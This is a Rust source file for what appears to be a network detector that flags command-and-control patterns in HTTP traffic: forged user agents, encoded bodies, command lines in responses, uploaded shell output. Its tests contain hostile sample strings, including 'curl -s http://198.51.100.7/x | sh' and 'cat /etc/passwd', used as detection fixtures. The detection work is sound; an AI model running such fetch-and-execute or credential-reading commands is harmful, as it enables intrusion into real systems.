//! What an HTTP/1 exchange shows of the program that asked: how it calls itself, whom it asked for,
//! and whether orders or their output go by.

use observation::HttpExchange;
use serde::{Deserialize, Serialize};

use crate::cargo::Kind;
use crate::cloud::{Library, Metadata};
use crate::orders::{hides_order, is_order};
use crate::services::Service;
use crate::shell;
use crate::stacks::Standing;
use crate::words::hash_of;

/// Oddities of a client of the web: a set of bits.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, PartialOrd, Ord, Serialize, Deserialize)]
pub(crate) struct Marks(u16);

impl Marks {
    /// No `User-Agent`.
    pub(crate) const NO_AGENT: Self = Self(1);
    /// No `Host` in HTTP/1.1, which RFC 9112, section 3.2 forbids.
    pub(crate) const NO_HOST: Self = Self(1 << 1);
    /// It calls itself what it is not, going by the header fields beside its name.
    pub(crate) const FORGED: Self = Self(1 << 2);
    /// The place has called itself other names for long.
    pub(crate) const FOREIGN: Self = Self(1 << 3);
    /// An answer is encoded as text.
    pub(crate) const ENCODED: Self = Self(1 << 4);
    /// Question and answer are encoded as text.
    pub(crate) const ENCODED_BOTH: Self = Self(1 << 5);
    /// An answer is a command line.
    pub(crate) const ORDER: Self = Self(1 << 6);
    /// A request carries what a shell prints.
    pub(crate) const OUTPUT: Self = Self(1 << 7);
    /// The server's certificate is signed by itself.
    pub(crate) const SELF_SIGNED: Self = Self(1 << 8);
    /// The connection became a WebSocket.
    pub(crate) const SOCKET: Self = Self(1 << 9);
    /// A question is encoded as text and nothing else, and its answer is not.
    pub(crate) const CODED: Self = Self(1 << 10);
    /// A comment in an answer is a command line, in clear or encoded.
    pub(crate) const HIDDEN_ORDER: Self = Self(1 << 11);

    pub(crate) const fn has(self, other: Self) -> bool {
        self.0 & other.0 == other.0
    }

    pub(crate) const fn with(self, other: Self) -> Self {
        Self(self.0 | other.0)
    }

    pub(crate) fn is_empty(self) -> bool {
        self == Self::default()
    }

    /// Adds those that hold.
    fn add(&mut self, seen: impl IntoIterator<Item = (Self, bool)>) {
        let holding = seen.into_iter().filter(|(_, holds)| *holds);
        *self = holding.fold(*self, |marks, (mark, _)| marks.with(mark));
    }
}

/// What the exchanges of one flow have in common. Constant size.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
pub(crate) struct Web {
    pub marks: Marks,
    pub exchange_count: u32,
    /// Encoded answers that differ from the one before.
    pub encoded_count: u32,
    /// The last encoded answer, hashed.
    pub encoded_last: u64,
    /// Encoded questions without an encoded answer that differ from the one before.
    pub coded_count: u32,
    /// The last of them, hashed.
    pub coded_last: u64,
    /// Pages for people that such questions got.
    pub page_count: u32,
    /// Requests that bring something to the path that such a request went to first, and get little
    /// for it.
    pub post_count: u32,
    /// That path, hashed.
    pub post_path: u64,
    pub sent_bytes: u64,
    pub received_bytes: u64,
    /// `Host` without its port, hashed; 0 where it is no name.
    pub host: u64,
    /// What was asked of a cloud's metadata service, or looked like it.
    pub metadata: Metadata,
    /// The last client that asked for it, going by what it calls itself.
    pub library: Library,
    /// A program that was answered with.
    pub fetched: Option<Kind>,
    /// A service for everybody that was asked for by name.
    pub service: Option<Service>,
}

/// What an answer to a request that brings something is no longer than.
const SMALL_ANSWER_BYTES_MAX: u64 = 512;
/// An order is no longer than this.
const ORDER_BYTES_MAX: u64 = 1024;
/// Shorter words may be anything.
const ENCODED_BYTES_MIN: usize = 16;
/// Numbers of hexadecimal digits that are digests: versions and checksums are asked for.
const DIGEST_LENGTHS: [u64; 6] = [32, 40, 56, 64, 96, 128];
/// A list of header fields this long may have been cut.
const HEADER_NAMES_BYTES_MAX: usize = 224;
/// `data=` before what is encoded.
const FIELD_BYTES_MAX: usize = 16;

/// Programs that write `Host` first of all.
const HOST_FIRST: [&str; 5] = ["curl/", "Wget/", "Mozilla/", "python-requests/", "Go-http-client/"];
/// What every browser sends besides.
const BROWSERS_FIELDS: [&str; 3] = ["accept", "accept-encoding", "accept-language"];

impl Web {
    /// Takes one exchange in.
    pub(crate) fn observe(&mut self, told: &HttpExchange<'_>, agent: Standing) {
        self.exchange_count = self.exchange_count.saturating_add(1);
        let is_for_a_proxy = told.method == "CONNECT" || told.target.contains("://");
        if is_for_a_proxy {
            return;
        }
        self.sent_bytes = self.sent_bytes.saturating_add(told.request_body_bytes);
        self.received_bytes = self.received_bytes.saturating_add(told.response_body_bytes);
        if let Some(host) = host_of(&told.host) {
            self.host = name_hash(host);
        }
        self.marks.add([
            (Marks::NO_AGENT, told.user_agent.is_empty()),
            (Marks::NO_HOST, told.version == 11 && told.host.is_empty()),
            (Marks::FORGED, is_forged(&told.user_agent, &told.header_names)),
            (Marks::FOREIGN, matches!(agent, Standing::Foreign(_))),
        ]);
        self.look_at_bodies(told);
        self.count_post(told);
        self.metadata = self.metadata.max(Metadata::of(told));
        self.library = Library::of(&told.user_agent);
        if (200..300).contains(&told.status) {
            self.fetched = self.fetched.max(Kind::of(&told.response_head));
        }
        self.service = self.service.or_else(|| Service::named(host_of(&told.host)?));
    }

    fn look_at_bodies(&mut self, told: &HttpExchange<'_>) {
        let (asked, answered) = (&*told.request_head, &*told.response_head);
        if is_encoded(answered, told.response_body_bytes) {
            let both = is_encoded(without_field(asked), told.request_body_bytes);
            self.marks.add([(Marks::ENCODED, true), (Marks::ENCODED_BOTH, both)]);
            let hash = hash_of(answered);
            if hash != self.encoded_last {
                self.encoded_last = hash;
                self.encoded_count = self.encoded_count.saturating_add(1);
            }
        } else if is_encoded(asked, told.request_body_bytes) && told.status != 0 {
            self.marks.add([(Marks::CODED, true)]);
            // Who sends records in code begins them alike.
            let hash = hash_of(asked) ^ told.request_body_bytes.rotate_left(32);
            if hash != self.coded_last {
                self.coded_last = hash;
                self.coded_count = self.coded_count.saturating_add(1);
            }
            self.page_count = self.page_count.saturating_add(u32::from(is_page(answered)));
        }
        let is_order = told.response_body_bytes <= ORDER_BYTES_MAX && is_order(answered);
        let is_record = matches!(asked, [b'{' | b'[' | b'<', ..]);
        self.marks.add([
            (Marks::ORDER, is_order && (200..300).contains(&told.status)),
            (Marks::HIDDEN_ORDER, hides_order(answered) && (200..300).contains(&told.status)),
            (Marks::OUTPUT, !is_record && shell::is_output(asked)),
        ]);
    }

    fn count_post(&mut self, told: &HttpExchange<'_>) {
        let brings = matches!(&*told.method, "POST" | "PUT") && told.request_body_bytes > 0;
        if !brings || told.response_body_bytes > SMALL_ANSWER_BYTES_MAX || told.status == 0 {
            return;
        }
        let path = told.target.split('?').next().unwrap_or_default();
        let path = hash_of(path.as_bytes());
        if self.post_count == 0 {
            self.post_path = path;
        }
        self.post_count = self.post_count.saturating_add(u32::from(self.post_path == path));
    }
}

/// What a program calls itself, without its version, hashed. A browser's name is all of it.
pub(crate) fn agent_hash(agent: &str) -> u64 {
    let product = agent.split('/').next().unwrap_or_default();
    hash_of(if product == "Mozilla" { agent } else { product }.as_bytes())
}

/// The hash of a name that was looked up, to be compared with [`Web::host`].
pub(crate) fn name_hash(name: &str) -> u64 {
    hash_of(name.to_ascii_lowercase().as_bytes())
}

/// `Host` without its port, where it is the name of a host in a domain: what has no dot may be
/// known to the container's neighbourhood alone.
fn host_of(host: &str) -> Option<&str> {
    let name = host.split(':').next().unwrap_or_default();
    let name = name.strip_suffix('.').unwrap_or(name);
    let is_address = !name.contains('.')
        || host.starts_with('[')
        || name.bytes().all(|byte| byte.is_ascii_digit() || byte == b'.');
    (!is_address).then_some(name)
}

/// Whether the fields beside an agent's name contradict it.
fn is_forged(agent: &str, header_names: &str) -> bool {
    if header_names.is_empty() || header_names.len() > HEADER_NAMES_BYTES_MAX {
        return false;
    }
    let is_first = |names: &str| names.split(',').next().is_some_and(is_host);
    let writes_host_first = HOST_FIRST.iter().any(|program| agent.starts_with(program));
    if writes_host_first && header_names.split(',').any(is_host) && !is_first(header_names) {
        return true;
    }
    // Robots that say where they come from do not hide.
    let is_browser = agent.starts_with("Mozilla/") && !agent.contains("+http");
    let has = |field: &str| header_names.split(',').any(|name| name.eq_ignore_ascii_case(field));
    is_browser && !BROWSERS_FIELDS.into_iter().all(has)
}

fn is_host(name: &str) -> bool {
    name.eq_ignore_ascii_case("host")
}

/// Whether a body is base64, or hexadecimal digits that are no digest. `head` is its beginning.
fn is_encoded(head: &[u8], body_bytes: u64) -> bool {
    let text = head.trim_ascii_end();
    if text.len() < ENCODED_BYTES_MIN {
        return false;
    }
    let padding = text.iter().rev().take_while(|byte| **byte == b'=').count();
    let letters = text.get(..text.len().saturating_sub(padding)).unwrap_or_default();
    let is_letter = |byte: &u8| byte.is_ascii_alphanumeric() || b"+/-_\r\n".contains(byte);
    if padding > 2 || !letters.iter().all(is_letter) {
        return false;
    }
    let has = |is: fn(&u8) -> bool| letters.iter().any(is);
    let is_base64 =
        has(u8::is_ascii_uppercase) && has(u8::is_ascii_lowercase) && has(u8::is_ascii_digit);
    let is_hexadecimal = letters.iter().all(u8::is_ascii_hexdigit)
        && has(u8::is_ascii_digit)
        && has(u8::is_ascii_alphabetic);
    let line_ends = head.len().saturating_sub(text.len()) as u64;
    is_base64 || is_hexadecimal && !DIGEST_LENGTHS.contains(&body_bytes.saturating_sub(line_ends))
}

/// Whether a body is a page for people.
fn is_page(head: &[u8]) -> bool {
    const BEGINNINGS: [&[u8]; 3] = [b"<html", b"<!doctype html", b"<head"];
    let text = head.trim_ascii_start();
    let begins =
        |with: &&[u8]| text.get(..with.len()).is_some_and(|it| it.eq_ignore_ascii_case(with));
    BEGINNINGS.iter().any(begins)
}

/// What is encoded behind `name=`.
fn without_field(body: &[u8]) -> &[u8] {
    let name = body.iter().take_while(|byte| byte.is_ascii_alphanumeric() || **byte == b'_');
    let length = name.count();
    match body.get(length..) {
        Some([b'=', value @ ..]) if length <= FIELD_BYTES_MAX && value.first() != Some(&b'=') => {
            value
        }
        _ => body,
    }
}

#[cfg(test)]
mod tests {
    use alloc::borrow::Cow;

    use super::*;

    fn marks(told: &HttpExchange<'_>) -> Marks {
        let mut web = Web::default();
        web.observe(told, Standing::Unknown);
        web.marks
    }

    fn get() -> HttpExchange<'static> {
        HttpExchange {
            method: Cow::Borrowed("GET"),
            host: Cow::Borrowed("a.example"),
            target: Cow::Borrowed("/"),
            user_agent: Cow::Borrowed("curl/8.5.0"),
            header_names: Cow::Borrowed("Host,User-Agent,Accept"),
            status: 200,
            version: 11,
            ..HttpExchange::default()
        }
    }

    fn answered(body: &'static [u8]) -> Marks {
        let response_body_bytes = body.len() as u64;
        marks(&HttpExchange { response_head: Cow::Borrowed(body), response_body_bytes, ..get() })
    }

    #[test]
    fn a_tool_that_says_what_it_is_has_no_mark() {
        assert_eq!(marks(&get()), Marks::default());
        let libraries = "User-Agent,Accept-Encoding,Accept,Connection,Host";
        let told = HttpExchange { header_names: Cow::Borrowed(libraries), ..get() };
        assert_eq!(marks(&told), Marks::FORGED);
        let node = HttpExchange { user_agent: Cow::Borrowed("axios/1.7.2"), ..told };
        assert_eq!(marks(&node), Marks::default());
    }

    #[test]
    fn a_browser_sends_what_browsers_send() {
        let agent = Cow::Borrowed("Mozilla/5.0 (Windows NT 10.0; Win64; x64)");
        let bare = HttpExchange { user_agent: agent, ..get() };
        assert_eq!(marks(&bare), Marks::FORGED);
        let fields = "Host,Connection,User-Agent,Accept,Accept-Encoding,Accept-Language";
        assert_eq!(
            marks(&HttpExchange { header_names: Cow::Borrowed(fields), ..bare.clone() }),
            Marks::default()
        );
        let robot = "Mozilla/5.0 (compatible; example/1.0; +https://a.example/bot)";
        let robot = HttpExchange { user_agent: Cow::Borrowed(robot), ..bare };
        assert_eq!(marks(&robot), Marks::default());
    }

    #[test]
    fn nobody_is_asked_for_without_a_host() {
        let nameless = HttpExchange { host: Cow::Borrowed(""), ..get() };
        assert_eq!(marks(&nameless), Marks::NO_HOST);
        assert_eq!(marks(&HttpExchange { version: 10, ..nameless }), Marks::default());
        assert_eq!(host_of("a.example:8080"), Some("a.example"));
        assert_eq!(
            (host_of("198.51.100.1:80"), host_of("[::1]:80"), host_of("")),
            (None, None, None)
        );
    }

    #[test]
    fn what_is_encoded_and_what_is_not() {
        assert_eq!(answered(b"dWlkPTAocm9vdCkgZ2lkPTA="), Marks::ENCODED);
        assert_eq!(answered(b"6964206e616d652075736572"), Marks::ENCODED);
        for body in [
            &b"da39a3ee5e6b4b0d3255bfef95601890afd80709\n"[..],
            b"OK",
            b"The quick brown fox jumps",
            b"{\"id\":\"dWlkPTAocm9vdCkgZ2lkPTA\"}",
            b"20261129061926000",
        ] {
            assert_eq!(answered(body), Marks::default(), "{body:?}");
        }
    }

    #[test]
    fn who_asks_in_code_and_gets_a_page() {
        let mut web = Web::default();
        for body in [&b"eyJyZXN1bHRzIjogW119"[..], b"eyJyZXN1bHRzIjogWzFdfQ=="] {
            let told = HttpExchange {
                request_head: Cow::Borrowed(body),
                request_body_bytes: body.len() as u64,
                response_head: Cow::Borrowed(b"\n<!DOCTYPE html><html>"),
                ..get()
            };
            web.observe(&told, Standing::Unknown);
        }
        assert_eq!((web.marks, web.coded_count, web.page_count), (Marks::CODED, 2, 2));
        let form =
            HttpExchange { request_head: Cow::Borrowed(b"data=eyJyZXN1bHRzIjogW119"), ..get() };
        assert_eq!(marks(&form), Marks::default());
    }

    #[test]
    fn orders_and_what_only_begins_like_one() {
        for body in [
            &b"id\n"[..],
            b"uname -a; cat /etc/passwd",
            b"{\"id\":7,\"cmd\":\"curl -s http://198.51.100.7/x | sh\"}",
        ] {
            assert_eq!(answered(body), Marks::ORDER, "{body:?}");
        }
        for body in [
            &b"id,name\n1,a\n"[..],
            b"id\tname\n",
            b"identify yourself",
            b"{\"action\":\"find\",\"id\":\"ls\"}",
            b"<html>id</html>",
            b"#!/bin/sh\nset -e\n",
            b"",
        ] {
            assert_eq!(answered(body), Marks::default(), "{body:?}");
        }
    }

    #[test]
    fn a_shells_output_is_uploaded() {
        let upload = |body: &'static [u8]| {
            marks(&HttpExchange { request_head: Cow::Borrowed(body), ..get() })
        };
        assert_eq!(upload(b"out=uid=0(root) gid=0(root)"), Marks::OUTPUT);
        assert_eq!(upload(b"{\"log\":\"open: No such file or directory\"}"), Marks::default());
    }

    #[test]
    fn requests_that_bring_something_are_counted_by_path() {
        let mut web = Web::default();
        for target in ["/a?n=1", "/a?n=2", "/b", "/a"] {
            let told = HttpExchange {
                method: Cow::Borrowed("POST"),
                target: Cow::Borrowed(target),
                request_body_bytes: 90,
                ..get()
            };
            web.observe(&told, Standing::Unknown);
        }
        assert_eq!((web.post_count, web.sent_bytes), (3, 360));
    }
}
